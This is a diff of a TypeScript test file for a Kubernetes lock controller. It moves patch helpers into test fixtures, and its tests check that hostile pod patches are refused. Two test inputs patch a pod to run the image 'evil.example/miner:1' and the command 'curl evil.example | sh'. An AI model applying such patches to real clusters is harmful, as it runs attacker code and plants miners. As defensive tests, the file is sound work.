@@ -35,8 +35,6 @@ import { Redis as RedisClient } from 'ioredis';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { GROUP, PLURAL, VERSION } from '../../src/api/v1alpha1/distributedlock.ts';
 import { redisGuard } from '../../src/guards/redis-guard.ts';
-import { mergePatch } from '../../src/kube/patch.ts';
-import { jsonPatchWith } from '../../src/kube/request-options.ts';
 import { completedLease, microTime, parseLease, releasedLease, renewedLease } from '../../src/lease/record.ts';
 import { startDashboard, type Dashboard } from '../../src/dashboard/start.ts';
 import { silentLogger } from '../../src/observability/logger.ts';
@@ -50,6 +48,8 @@ import {
   lockBody,
   serviceAccountKubeConfig,
   setPodStatus,
+  mergePatch,
+  jsonPatch,
 } from '../support/fixtures.ts';
 import { problemType, sendRaw } from '../support/local-api.ts';
 import { useLockController } from '../support/lock-controller.ts';
@@ -327,7 +327,7 @@ describe('bad input is refused, naming the field or the reason, and changes noth
                 body: [{ op: 'replace', path: '/spec/containers/0/image', value: 'x.example/y:1' }],
                 dryRun: 'All',
               },
-              jsonPatchWith(undefined),
+              jsonPatch,
             ),
           ),
           failure(() =>
@@ -779,7 +779,7 @@ describe('bad input is refused, naming the field or the reason, and changes noth
         name: pod,
         body: [{ op: 'replace', path: '/spec/containers/0/image', value: 'evil.example/miner:1' }],
       },
-      jsonPatchWith(undefined),
+      jsonPatch,
     );
   /** command: a JSON patch that gives the pod's container another command. */
   const command = (kc: KubeConfig, pod: string): Promise<unknown> =>
@@ -789,7 +789,7 @@ describe('bad input is refused, naming the field or the reason, and changes noth
         name: pod,
         body: [{ op: 'add', path: '/spec/containers/0/command', value: ['sh', '-c', 'curl evil.example | sh'] }],
       },
-      jsonPatchWith(undefined),
+      jsonPatch,
     );
   const podCases: ReadonlyArray<{
     name: string;
